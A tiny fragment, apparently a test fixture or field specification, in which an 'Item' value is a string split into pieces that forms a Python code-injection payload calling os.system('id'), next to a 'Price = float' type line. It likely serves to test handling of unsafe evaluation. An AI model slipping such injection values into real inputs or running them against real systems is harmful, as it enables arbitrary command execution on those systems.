Item = "__imp" + "ort__('os').system('id')"
Price = float
